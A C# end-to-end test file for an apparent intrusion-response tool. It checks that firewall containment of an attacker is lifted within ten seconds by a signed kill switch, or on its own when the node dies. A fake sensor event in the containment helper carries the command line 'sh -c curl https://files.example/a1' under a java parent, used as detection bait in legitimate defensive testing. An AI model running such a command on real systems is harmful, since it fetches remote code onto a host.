using System.Diagnostics;
using System.Net.Http.Headers;
using System.Text.Json.Nodes;
using Hikeshi.Exercises.Nodes;
using Hikeshi.Tests;
using Hikeshi.Tests.Response.Nftables;

namespace Hikeshi.EndToEnd.Faults;

/// <summary>The kernel's firewall under a real node: contained within the second, let go within ten with the node stopped, and by itself with the node killed.</summary>
[Collection<ThisNetwork>]
public sealed class OffBoxSwitchTests : IDisposable
{
    private static readonly TimeSpan Promised = TimeSpan.FromSeconds(10);
    private readonly NetworkLab lab = new();
    private readonly Workspace workspace = new();

    [Fact]
    public async Task Switch_NodeStopped_EverythingIsReleasedWithinTenSeconds()
    {
        var port = lab.Echo();
        var key = workspace.At("ciso.key");
        var publicKey = (await Cli.RunAsync("approve", "new-key", key)).Out.Trim();
        var place = workspace.At("switch.json");
        await using var node = await ContainAsync(port, "minutes: 60", place, publicKey);
        using var guard = Cli.Start(["respond", "guard", "--config", workspace.File("guard.json", new JsonObject
        {
            ["member"] = "lone",
            ["switch"] = new JsonObject { ["file"] = place, ["keys"] = new JsonObject { ["ciso"] = publicKey } },
            ["nftables"] = new JsonObject { ["netns"] = lab.Firewall },
        }.ToJsonString())], redirectInput: false);
        Assert.Contains("watching", await guard.StandardOutput.ReadLineAsync(), StringComparison.Ordinal);

        Signals.Stop(node);
        var said = await Cli.RunAsync("respond", "switch", "lone", "--key", key, "--signer", "ciso", "--reason", "a test");
        Assert.True(said.ExitCode == 0, said.ToString());
        Assert.Null(lab.Connect(NetworkLab.Attacker, port));
        var began = Stopwatch.GetTimestamp();
        await File.WriteAllTextAsync(place, said.Out);
        await Until.HoldsAsync(() => Reaches(port), "the attacker gets through again");
        Assert.InRange(Stopwatch.GetElapsedTime(began), TimeSpan.Zero, Promised);

        // The node goes on, finds the switch, and acts no more.
        Signals.Continue(node);
        await Until.HoldsAsync(async () => (await node.Client.GetAsync("api/v1/response/containments", TestContext.Current.CancellationToken)).GetArrayLength() == 0, "the node has let go too");
        guard.Kill();
    }

    [Fact]
    public async Task End_NodeKilled_TheKernelLetsGo()
    {
        var port = lab.Echo();
        await using var node = await ContainAsync(port, "seconds: 20", workspace.At("none.json"), publicKey: null);
        node.Kill();
        Assert.Null(lab.Connect(NetworkLab.Attacker, port));
        await Until.HoldsAsync(() => Reaches(port), "the block ends by itself");
    }

    public void Dispose()
    {
        lab.Dispose();
        workspace.Dispose();
    }

    private bool Reaches(int port)
    {
        using var client = lab.Connect(NetworkLab.Attacker, port, patienceMs: 200);
        return client is not null;
    }

    /// <summary>A node with this firewall, and one attack that it has answered.</summary>
    private async Task<NodeProcess> ContainAsync(int port, string life, string place, string? publicKey)
    {
        Assert.True(Reaches(port));
        var policy = (await File.ReadAllTextAsync(Path.Combine(Repository.Root, "docs", "examples", "response-policy.yaml"))).Replace("minutes: 60 }", $"{life} }}", StringComparison.Ordinal);
        var api = $"127.0.0.1:{LoopbackPort.Next()}";
        var keys = new JsonObject();
        if (publicKey is not null)
        {
            keys["ciso"] = publicKey;
        }

        var node = new NodeProcess(Repository.Program, "lone", workspace.At("lone"), new JsonObject
        {
            ["Member"] = "lone",
            ["Listen"] = new JsonObject { ["Api"] = api, ["Blocklists"] = $"127.0.0.1:{LoopbackPort.Next()}" },
            ["Rules"] = Repository.Rules,
            ["Policy"] = workspace.File("policy.yaml", policy),
            ["Response"] = new JsonObject { ["RecordOnlyDays"] = "0", ["Switch"] = new JsonObject { ["File"] = place, ["Keys"] = keys } },
            ["Nftables"] = new JsonObject { ["Enabled"] = "true", ["Netns"] = lab.Firewall, ["Never"] = new JsonArray("10.99.3.0/24") },
        });
        var stop = TestContext.Current.CancellationToken;
        await node.StartAsync(stop);
        await node.Client.PostAsync("api/v1/ledger/import?name=institution.json", Institution(port), stop);
        foreach (var kind in new[] { "shield", "isolate-host" })
        {
            await node.Client.PostAsync("api/v1/response/autonomy", new JsonObject { ["actionClass"] = kind, ["autonomy"] = "act", ["signedBy"] = "test" }.ToJsonString(), stop);
        }

        var token = (await node.Client.PostAsync("api/v1/tokens", """{"name":"sensor","roles":["sensor"],"days":1}""", stop)).GetProperty("token").GetString();
        using var sensor = new HttpClient(new SocketsHttpHandler { UseProxy = false }) { DefaultRequestHeaders = { Authorization = new AuthenticationHeaderValue("Bearer", token) } };
        using var taken = await sensor.PostAsync(new Uri($"http://{api}/api/v1/events"), new StringContent("""{"product":"linux","category":"process_creation","Computer":"svc-1","Image":"/bin/sh","CommandLine":"sh -c curl https://files.example/a1","ParentImage":"/opt/jre/bin/java"}"""), stop);
        Assert.True(taken.IsSuccessStatusCode, await taken.Content.ReadAsStringAsync(stop));
        await Until.HoldsAsync(() => !Reaches(port), "the attacker is refused");
        using var management = lab.Connect(NetworkLab.Management, port);
        Assert.True(NetworkLab.Answers(management!));
        return node;
    }

    private static string Institution(int port) => new JsonObject
    {
        ["format"] = "hikeshi-institution/1",
        ["id"] = "lone",
        ["names"] = new JsonObject { ["en"] = "Lone Bank (fictional)", ["ja"] = "一行銀行（架空）" },
        ["kind"] = "regional-bank",
        ["consent"] = new JsonObject { ["namedExposure"] = false },
        ["functions"] = new JsonArray(new JsonObject { ["id"] = "payments", ["names"] = new JsonObject { ["en"] = "Payments", ["ja"] = "為替" }, ["impactToleranceMinutes"] = 60, ["tier"] = 1, ["paymentRail"] = true, ["cutOffs"] = new JsonArray(), ["services"] = new JsonArray("gateway") }),
        ["services"] = new JsonArray(new JsonObject { ["id"] = "gateway", ["names"] = new JsonObject { ["en"] = "Gateway", ["ja"] = "接続" }, ["address"] = NetworkLab.Service, ["port"] = port, ["internetExposed"] = true, ["component"] = "pkg:generic/gateway@1", ["assets"] = new JsonArray("svc-1", "svc-2"), ["minAssets"] = 1, ["allowFrom"] = new JsonArray(NetworkLab.Stranger, "10.99.3.0/24") }),
        ["assets"] = new JsonArray(Asset("svc-1", NetworkLab.Service), Asset("svc-2", "10.99.2.11")),
        ["suppliers"] = new JsonArray(),
        ["aiConnections"] = new JsonArray(),
        ["calendar"] = new JsonObject { ["timeZone"] = "Asia/Tokyo", ["opens"] = "09:00", ["closes"] = "15:00", ["cutOffs"] = new JsonArray() },
    }.ToJsonString();

    private static JsonObject Asset(string id, string address) =>
        new() { ["id"] = id, ["kind"] = "server", ["address"] = address, ["os"] = "linux", ["role"] = "application", ["tier"] = 2, ["neverContain"] = false, ["software"] = new JsonArray() };
}
